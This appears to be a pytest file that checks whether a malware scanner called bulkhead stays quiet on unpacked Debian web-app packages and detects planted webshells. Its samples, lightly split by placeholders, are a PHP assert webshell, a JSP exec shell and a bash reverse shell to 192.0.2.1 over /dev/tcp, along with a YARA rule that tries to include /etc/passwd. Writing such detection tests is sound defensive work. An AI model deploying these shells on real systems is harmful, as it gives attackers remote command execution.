# SPDX-License-Identifier: Apache-2.0
"""Web applications as Debian ships them hold no webshell and no malware; and shells put among them are found."""
import os
import pathlib
import shutil
import subprocess

import pytest

BUILD = pathlib.Path(os.environ.get("BULKHEAD_BUILD", "build"))
PACKAGES = ["wordpress", "phpmyadmin", "roundcube-core", "mediawiki", "php-pear", "php-twig", "dokuwiki", "adminer", "node-express",
            "tomcat10-examples", "tomcat10-admin", "libcgi-pm-perl", "libmojolicious-perl", "libpython3.11-stdlib"]
SHELLS = {
    "var/www/a.php": "<?php $f = 'ass' . 'ert'; $f($_PO{}ST['x']);",
    "var/www/b.jsp": '<% Runtime.getRun{}time().exec(request.getParameter("c")); %>',
    "opt/c.sh": "#!/bin/bash\nbash -i >& /dev/t{}cp/192.0.2.1/4444 0>&1\n",
}


def scan(root, *more):
    done = subprocess.run([BUILD / "bulkhead", "scan", f"rootfs:{root}", "--no-db", "--no-cache", "--only", "malware", "--quiet", *more],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode in (0, 1), done.stderr
    return done.stdout


@pytest.fixture(scope="module")
def tree(tmp_path_factory):
    if not shutil.which("apt-get") or not shutil.which("dpkg"):
        pytest.skip("no apt-get here")
    base = tmp_path_factory.mktemp("debs")
    got = subprocess.run(["apt-get", "-q", "download", *PACKAGES], cwd=base, capture_output=True, text=True, timeout=240)
    debs = list(base.glob("*.deb"))
    if len(debs) < len(PACKAGES):
        pytest.skip(f"packages could not be downloaded: {got.stderr.strip()[-200:]}")
    root = base / "root"
    for deb in debs:
        subprocess.run(["dpkg", "-x", deb, root], check=True)
    return root


def test_web_applications_of_debian_are_quiet(tree):
    assert " findings " not in scan(tree)


def test_shells_among_them_are_found(tree):
    for path, text in SHELLS.items():
        at = tree / path
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_text(text.replace("{}", ""))
    said = scan(tree)
    for path in SHELLS:
        assert path in said


def test_lists_of_digests_and_rules_of_the_user(tree, tmp_path):
    (tmp_path / "r.yar").write_text('rule mine { meta: author = "me" strings: $a = "ding" condition: $a and filename == "bell.txt" and extension == ".txt" }')
    (tmp_path / "broken.yar").write_text('rule broken { condition: nothing }')
    (tmp_path / "nosy.yar").write_text('include "/etc/passwd"')
    (tree / "bell.txt").write_text("ding")
    (tmp_path / "list").write_text("# ours\n2c29b85a30b6d4a3a8cd4ea7d4eb8b09c9b4a1d3;no such file\n" + subprocess.run(
        ["sha256sum", tree / "bell.txt"], capture_output=True, text=True, check=True).stdout.split()[0] + ";a bell\n")
    said = scan(tree, "--yara", str(tmp_path), "--hashes", str(tmp_path / "list"))
    assert "[mine]" in said and "rule by me" in said
    assert "[listed-digest]" in said and "a bell" in said
    assert "broken.yar" in said and "nosy.yar" in said
